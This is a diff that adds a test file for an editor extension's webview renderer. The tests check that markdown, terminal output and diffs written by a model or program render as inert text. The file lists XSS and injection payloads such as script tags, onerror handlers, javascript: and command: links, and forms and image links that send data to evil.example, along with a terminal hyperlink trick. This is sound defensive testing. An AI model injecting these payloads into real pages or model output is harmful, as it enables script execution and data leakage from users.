@@ -1,0 +1,89 @@
+// @vitest-environment jsdom
+/** What a model or a program wrote is shown, and can do nothing. */
+
+import { expect, test } from "vitest";
+import { outputHtml } from "../../src/webview/ansi";
+import { toHtml, visible } from "../../src/webview/markdown";
+import { rowsOf, statOf } from "../../src/webview/patch";
+
+const HOSTILE = [
+  "<script>alert(1)</script>",
+  '<img src=x onerror="alert(1)">',
+  "![](https://evil.example/?secret)",
+  "![x][1]\n\n[1]: https://evil.example/pixel.png",
+  "[run](command:workbench.action.terminal.new)",
+  "[run](vscode://aglet.aglet/x)",
+  "[run](javascript:alert(1))",
+  "[run](data:text/html,<script>alert(1)</script>)",
+  '<iframe src="https://evil.example"></iframe>',
+  '<a href="command:x" onclick="alert(1)">x</a>',
+  '<style>@import "https://evil.example"</style>',
+  '<form action="https://evil.example"><input name=a></form>',
+  "<svg><animate onbegin=alert(1)></svg>",
+  "```html\n<img src=x onerror=alert(1)>\n```",
+  '```"><img src=x onerror=alert(1)>\ncode\n```',
+];
+
+test.each(HOSTILE)("harmless: %s", (text) => {
+  const page = document.createElement("div");
+  page.innerHTML = toHtml(text);
+  expect(
+    page.querySelectorAll("script, img, iframe, style, form, input, svg, link, object, embed").length,
+  ).toBe(0);
+  for (const element of page.querySelectorAll("*")) {
+    for (const { name, value } of element.attributes) {
+      expect(name).toMatch(/^(href|class|start|type|aria-label)$/);
+      if (name === "href") expect(value).toMatch(/^(https?:|mailto:|[^a-z]|[^:]*$)/i);
+    }
+  }
+});
+
+test("Markdown is shown as such, code with its colours and a button to copy it", () => {
+  const page = document.createElement("div");
+  page.innerHTML = toHtml(
+    "# Hi\n\n**bold** and `code`\n\n```python\ndef f(): pass\n```\n\n| a | b |\n|--|--|\n| 1 | 2 |",
+  );
+  expect(page.querySelector("h1")?.textContent).toBe("Hi");
+  expect(page.querySelector("strong")?.textContent).toBe("bold");
+  expect(page.querySelector("pre .hljs-keyword")?.textContent).toBe("def");
+  expect(page.querySelector(".code > button.copy")?.textContent).toBe("Copy");
+  expect(page.querySelectorAll("td").length).toBe(2);
+});
+
+test("half an answer, cut anywhere, is rendered without an error", () => {
+  const whole =
+    "Text **bold** [link](https://a.example) `code`\n\n```js\nlet a = `x`;\n```\n\n- one\n- two\n";
+  for (let end = 0; end <= whole.length; end++) expect(typeof toHtml(whole.slice(0, end))).toBe("string");
+});
+
+test("characters that hide or turn others can be seen", () => {
+  expect(visible("rm \u202etxt.exe\u200b")).toBe("rm ⟨U+202E⟩txt.exe⟨U+200B⟩");
+  expect(toHtml("a\u2066b")).toContain("⟨U+2066⟩");
+  expect(visible("Grüße 🙂 e\u0301")).toBe("Grüße 🙂 e\u0301");
+});
+
+test("colours of a terminal are shown, and nothing else of it happens", () => {
+  expect(outputHtml("\u001b[32mgreen\u001b[0m <b>")).toBe(
+    '<span class="ansi-green-fg">green</span> &lt;b&gt;',
+  );
+  const tricks = outputHtml(
+    "\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\ \u001b[2J\u001b]0;title\u0007x",
+  );
+  expect(tricks).not.toContain("<a");
+  expect(tricks).not.toContain("href");
+  expect(outputHtml("10 %\r50 %\r100 %\ndone\r\n")).toBe("100 %\ndone\n");
+  expect(outputHtml("x".repeat(100_000)).length).toBeLessThan(70_000);
+});
+
+test("a unified diff is read row by row", () => {
+  const patch =
+    "--- a/x\n+++ b/x\n@@ -2,3 +2,3 @@\n same\n-old\n+new\n-- not a header\n\\ No newline at end of file\n";
+  expect(rowsOf(patch)).toEqual([
+    { kind: "hunk", text: "@@ -2,3 +2,3 @@" },
+    { kind: "same", text: "same", old: 2, new: 2 },
+    { kind: "del", text: "old", old: 3 },
+    { kind: "add", text: "new", new: 3 },
+    { kind: "del", text: "- not a header", old: 4 },
+  ]);
+  expect(statOf(patch)).toEqual({ added: 1, removed: 2 });
+});
